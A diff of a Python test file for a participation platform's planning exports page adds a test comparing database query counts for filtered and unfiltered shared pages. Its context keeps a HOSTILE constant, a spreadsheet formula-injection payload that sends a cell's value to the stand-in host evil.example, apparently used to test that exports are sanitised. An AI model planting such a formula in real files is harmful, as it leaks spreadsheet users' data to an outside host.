@@ -16,7 +16,7 @@ from participation.comments.services import add_comment
 from participation.drafts import services as drafts
 from participation.incorporation import services as incorporation
 from participation.proposals import services as proposals
-from tests.conftest import Browser, logged_in
+from tests.conftest import Browser, logged_in, queries_for
 from tests.drafting import first_paragraph, hide_as_spam, open_phase
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
@@ -233,3 +233,16 @@ def test_the_shared_exports_page_shows_a_new_version_at_once(app, db, data, draf
     db.session.commit()
     assert link in planner.get("/planning/exports/").get_data(as_text=True)
     assert "Digitale Bildung" in planner.get("/planning/exports/?topic=education").get_data(as_text=True)
+
+
+def test_the_page_without_filters_loads_no_choices_once_it_is_shared(app, data):
+    """Filters are checked against the phases, versions and chapters there are (three queries);
+    without any filter there is nothing to check, and the shared page needs none of them."""
+    planner = logged_in(app, "plan@example.org")
+    for url in ("/planning/exports/", "/planning/exports/?topic=education"):
+        planner.get(url)  # made and shared
+    plain = queries_for(planner, "/planning/exports/")
+    filtered = queries_for(planner, "/planning/exports/?topic=education")
+    assert plain <= filtered - 3
+    body = planner.get("/planning/exports/").get_data(as_text=True)
+    assert "Digitale Bildung" in body and 'href="/planning/exports/versions/1.docx"' in body
